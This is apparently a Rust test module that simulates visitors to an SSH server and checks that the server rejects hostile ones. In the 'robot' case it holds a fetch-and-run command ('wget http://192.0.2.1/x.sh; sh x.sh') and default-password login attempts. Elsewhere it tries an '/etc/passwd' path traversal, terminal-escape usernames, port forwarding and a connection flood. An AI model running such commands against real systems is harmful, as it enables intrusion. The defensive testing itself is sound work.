//! Who comes: visitors, robots, and those who want nothing good. Each says what must come of it.

use std::{
    net::{IpAddr, SocketAddr},
    time::Duration,
};

use anyhow::{Context as _, Result, ensure};
use russh::Disconnect;
use russh_sftp::client::SftpSession;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time::{Instant, sleep, timeout},
};

use super::line::{DEADLINE, dial, end, page, ssh};

/// A kind of guest.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Guest {
    /// Reads some pages and says goodbye.
    Reader,
    /// Leaves in the middle, without a word.
    HangsUp,
    /// Opens the page, and does nothing until hung up on.
    Idler,
    /// Changes the window's size as one who drags its corner.
    Resizer,
    /// Types at random, and a lot of it.
    Masher,
    /// Prints documents, and asks for what there is not.
    Prints,
    /// Fetches files over SFTP, and tries to write.
    Sftp,
    /// Fetches by the old protocol of scp.
    Scp,
    /// Guesses a password and runs a command, as robots do.
    Robot,
    /// Wants to be carried on to somewhere else.
    Forwards,
    /// Speaks another protocol.
    Stranger,
    /// Says nothing.
    Silent,
    /// Begins to exchange keys, and then sends noise.
    Noise,
    /// One address with more connections than it may have.
    Flood,
}

impl Guest {
    pub(crate) const ALL: [Self; 14] = [
        Self::Reader,
        Self::HangsUp,
        Self::Idler,
        Self::Resizer,
        Self::Masher,
        Self::Prints,
        Self::Sftp,
        Self::Scp,
        Self::Robot,
        Self::Forwards,
        Self::Stranger,
        Self::Silent,
        Self::Noise,
        Self::Flood,
    ];

    /// How many of a hundred.
    const fn share(self) -> u64 {
        match self {
            Self::Reader | Self::Robot => 16,
            Self::HangsUp => 8,
            Self::Idler | Self::Masher | Self::Resizer | Self::Flood => 1,
            Self::Prints => 12,
            Self::Sftp | Self::Scp | Self::Forwards => 5,
            Self::Stranger => 15,
            Self::Silent | Self::Noise => 7,
        }
    }

    /// Whether it is gone within seconds.
    pub(crate) const fn is_short(self) -> bool {
        !matches!(self, Self::Idler | Self::Silent)
    }

    pub(crate) fn any(seed: &mut Seed) -> Self {
        let mut number = seed.below(Self::ALL.iter().map(|guest| guest.share()).sum());
        for guest in Self::ALL {
            match number.checked_sub(guest.share()) {
                Some(rest) => number = rest,
                None => return guest,
            }
        }
        Self::Reader
    }

    /// Comes and goes.
    pub(crate) async fn visit(self, to: SocketAddr, from: IpAddr, mut seed: Seed) -> Result<()> {
        match self {
            Self::Reader | Self::HangsUp | Self::Idler | Self::Resizer | Self::Masher => {
                self.reads(to, from, &mut seed).await
            }
            Self::Prints => prints(to, from, &mut seed).await,
            Self::Sftp => sftp(to, from).await,
            Self::Scp => scp(to, from).await,
            Self::Robot => robot(to, from, &mut seed).await,
            Self::Forwards => forwards(to, from).await,
            Self::Stranger => stranger(to, from, &mut seed).await,
            Self::Silent => silent(to, from).await,
            Self::Noise => noise(to, from, &mut seed).await,
            Self::Flood => flood(to, from).await,
        }
    }

    async fn reads(self, to: SocketAddr, from: IpAddr, seed: &mut Seed) -> Result<()> {
        let size = (40 + seed.below(160) as u32, 10 + seed.below(50) as u32);
        let handle = ssh(to, from, "visitor", None).await?;
        let mut channel = page(&handle, size).await?;
        match self {
            Self::Idler => {
                // Ten minutes, a warning a minute before; and the goodbye.
                let bound = Duration::from_secs(11 * 60);
                let idle = async { while channel.wait().await.is_some() {} };
                return timeout(bound, idle).await.context("an idler was not hung up on");
            }
            Self::Resizer => {
                for _ in 0..200 {
                    let (columns, rows) = (seed.below(300) as u32, seed.below(100) as u32);
                    channel.window_change(columns, rows, 0, 0).await?;
                    sleep(Duration::from_millis(10)).await;
                }
            }
            Self::Masher => {
                for _ in 0..20 {
                    let bytes: Vec<u8> =
                        (0..1024).map(|_| seed.next() as u8).filter(|byte| !b"qQ\x03\x04".contains(byte)).collect();
                    if channel.data(&bytes[..]).await.is_err() {
                        break;
                    }
                }
            }
            _ => {
                for _ in 0..3 + seed.below(20) {
                    let key =
                        seed.one_of(&["j", "k", "l", "h", "1", "2", "3", "4", "5", "\r", "\x1b[B", "?", "/ker\r"]);
                    channel.data(key.as_bytes()).await?;
                    let pause = Duration::from_millis(200 + seed.below(1500));
                    let looking = async { while channel.wait().await.is_some() {} };
                    ensure!(timeout(pause, looking).await.is_err(), "closed while reading");
                }
            }
        }
        if self != Self::Reader {
            // As a line that is cut: the socket closes.
            drop((channel, handle));
            return Ok(());
        }
        // Out of whatever is open, and goodbye. Esc alone is known after 50 ms.
        for key in ["\x1b", "\x1b", "\x1b", "q"] {
            channel.data(key.as_bytes()).await?;
            sleep(Duration::from_millis(100)).await;
        }
        let (_, status) = end(&mut channel).await?;
        ensure!(status == Some(0), "goodbye with the status {status:?}");
        Ok(handle.disconnect(Disconnect::ByApplication, "", "").await?)
    }
}

/// Sees every page in a window so wide.
pub(crate) async fn leafs_through(to: SocketAddr, from: IpAddr, user: &str, columns: u32) -> Result<()> {
    let handle = ssh(to, from, user, None).await?;
    let mut channel = page(&handle, (columns, 40)).await?;
    for key in ["2", "3", "4", "5"] {
        channel.data(key.as_bytes()).await?;
        // Until its frame comes; where the window is too small for a page, none does.
        let _ = timeout(Duration::from_millis(100), channel.wait()).await;
    }
    // Without a goodbye, which waits a second for a terminal that has not answered.
    Ok(handle.disconnect(Disconnect::ByApplication, "", "").await?)
}

async fn prints(to: SocketAddr, from: IpAddr, seed: &mut Seed) -> Result<()> {
    let handle = ssh(to, from, "visitor", None).await?;
    for _ in 0..=seed.below(4) {
        let (command, expected) = seed.one_of(&[
            ("text", 0),
            ("json", 0),
            ("html", 0),
            ("vcard", 0),
            ("text --width 50", 0),
            ("qr png", 0),
            ("text --width x", 2),
            ("\x1b[2J\n\u{202e}", 127),
        ]);
        let mut channel = handle.channel_open_session().await?;
        channel.exec(true, command).await?;
        let (bytes, status) = end(&mut channel).await?;
        ensure!(status == Some(expected) && bytes > 0, "{command:?}: {bytes} bytes, the status {status:?}");
    }
    Ok(handle.disconnect(Disconnect::ByApplication, "", "").await?)
}

async fn sftp(to: SocketAddr, from: IpAddr) -> Result<()> {
    let handle = ssh(to, from, "visitor", None).await?;
    let channel = handle.channel_open_session().await?;
    channel.request_subsystem(true, "sftp").await?;
    let fetching = async {
        let files = SftpSession::new(channel.into_stream()).await?;
        for entry in files.read_dir("/").await? {
            let name = entry.file_name();
            ensure!(!files.read(format!("/{name}")).await?.is_empty(), "{name} is empty");
        }
        ensure!(files.create("/new").await.is_err(), "it could be written");
        ensure!(files.read("/../etc/passwd").await.is_err(), "it leads upwards");
        Ok(files.close().await?)
    };
    timeout(DEADLINE, fetching).await.context("no files in time")??;
    Ok(handle.disconnect(Disconnect::ByApplication, "", "").await?)
}

async fn scp(to: SocketAddr, from: IpAddr) -> Result<()> {
    let handle = ssh(to, from, "visitor", None).await?;
    let mut channel = handle.channel_open_session().await?;
    channel.exec(true, "scp -f README.txt").await?;
    // One answer for the beginning, one for the name, one for the file; more than that are not asked for.
    channel.data(&b"\0\0\0"[..]).await?;
    let (bytes, status) = end(&mut channel).await?;
    ensure!(status == Some(0) && bytes > 100, "{bytes} bytes, the status {status:?}");
    Ok(())
}

async fn robot(to: SocketAddr, from: IpAddr, seed: &mut Seed) -> Result<()> {
    let user = seed.one_of(&["root", "admin", "ubuntu", "oracle", "pi", "\x1b]0;owned\x07"]);
    let handle = ssh(to, from, user, Some("123456")).await?;
    let script = "echo owned; ".repeat(2000);
    let command =
        seed.one_of(&["uname -a", "cat /proc/cpuinfo | wc -l", "wget http://192.0.2.1/x.sh; sh x.sh", &script]);
    let mut channel = handle.channel_open_session().await?;
    channel.exec(true, command).await?;
    let (bytes, status) = end(&mut channel).await?;
    ensure!(status == Some(127) && bytes < 256, "{bytes} bytes, the status {status:?}");
    Ok(())
}

async fn forwards(to: SocketAddr, from: IpAddr) -> Result<()> {
    let handle = ssh(to, from, "root", Some("root")).await?;
    for _ in 0..5 {
        ensure!(handle.channel_open_direct_tcpip("192.0.2.1", 25, "192.0.2.2", 40000).await.is_err(), "forwarded");
    }
    ensure!(handle.tcpip_forward("0.0.0.0", 8080).await.is_err(), "listening elsewhere");
    Ok(())
}

async fn stranger(to: SocketAddr, from: IpAddr, seed: &mut Seed) -> Result<()> {
    let mut stream = dial(to, from).await?;
    let said = seed.one_of(&[
        "GET / HTTP/1.1\r\nHost: card\r\n\r\n",
        "\x16\x03\x01\x02\x00\x01\x00\x01\u{fc}\x03\x03",
        "\x03\0\0\x13\x0e\u{e0}\0\0\0\0\0\x01\0\x08\0\x03\0\0\0",
        "EHLO there\r\n",
        "SSH-1.5-old\r\n",
        "\0\0\0\0\n",
    ]);
    stream.write_all(said.as_bytes()).await?;
    closes(&mut stream).await
}

async fn silent(to: SocketAddr, from: IpAddr) -> Result<()> {
    let mut stream = dial(to, from).await?;
    let begin = Instant::now();
    closes(&mut stream).await?;
    ensure!(begin.elapsed() < Duration::from_secs(25), "silence was borne for {:?}", begin.elapsed());
    Ok(())
}

async fn noise(to: SocketAddr, from: IpAddr, seed: &mut Seed) -> Result<()> {
    let mut stream = dial(to, from).await?;
    stream.write_all(b"SSH-2.0-noise\r\n").await?;
    // A packet's length that can be, and then anything.
    let bytes: Vec<u8> = (0..200 + seed.below(2000)).map(|_| seed.next() as u8).collect();
    stream.write_all(&[&[0, 0, 1, 0, 4, 20][..], &bytes].concat()).await?;
    closes(&mut stream).await
}

async fn flood(to: SocketAddr, from: IpAddr) -> Result<()> {
    let mut streams = Vec::new();
    for _ in 0..40 {
        streams.push(dial(to, from).await?);
    }
    let mut greeted = 0;
    for stream in &mut streams {
        let mut line = [0; 4];
        match timeout(DEADLINE, stream.read_exact(&mut line)).await.context("not a word in time")? {
            Ok(_) if line == *b"SSH-" => greeted += 1,
            // Told why, or hung up on.
            Ok(_) | Err(_) => {}
        }
    }
    ensure!(greeted <= 11, "{greeted} of one address were let in");
    Ok(())
}

/// Reads until the server hangs up.
async fn closes(stream: &mut TcpStream) -> Result<()> {
    let mut bytes = [0; 1024];
    loop {
        match timeout(DEADLINE, stream.read(&mut bytes)).await.context("it is not hung up on")? {
            Ok(0) | Err(_) => return Ok(()),
            Ok(_) => {}
        }
    }
}

/// Numbers that look random and are the same each time (`SplitMix64`: Steele, Lea and Flood, 2014).
#[derive(Debug, Clone)]
pub(crate) struct Seed(u64);

impl Seed {
    pub(crate) const fn new(seed: u64) -> Self {
        Self(seed)
    }

    pub(crate) const fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// One for somebody else.
    pub(crate) const fn fork(&mut self) -> Self {
        Self(self.next())
    }

    /// A number below `n`.
    pub(crate) const fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }

    /// A time of which the mean is one, as between guests who do not know of each other.
    pub(crate) fn exponential(&mut self) -> f64 {
        let uniform = (self.next() >> 11) as f64 / (1u64 << 53) as f64;
        -(1.0 - uniform).ln()
    }

    #[allow(clippy::indexing_slicing, reason = "a number below the length, of choices that there are")]
    fn one_of<T: Copy>(&mut self, choices: &[T]) -> T {
        choices[self.below(choices.len() as u64) as usize]
    }
}
